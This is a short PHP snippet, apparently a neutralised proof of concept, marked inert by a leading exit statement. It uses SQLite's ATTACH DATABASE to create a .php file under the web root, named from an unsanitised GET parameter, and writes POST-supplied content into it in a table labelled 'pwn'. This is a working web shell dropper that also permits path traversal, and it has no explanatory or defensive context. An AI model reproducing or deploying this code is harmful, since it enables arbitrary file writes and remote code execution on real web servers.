<?php exit; /* inert */ 
$db = new SQLite3(':memory:');
$db->exec("ATTACH DATABASE '" . $_SERVER['DOCUMENT_ROOT'] . "/cache/" . $_GET['n'] . ".php' AS lol");
$db->exec("CREATE TABLE lol.pwn (d text)");
$db->exec("INSERT INTO lol.pwn VALUES ('" . SQLite3::escapeString($_POST['d']) . "')");
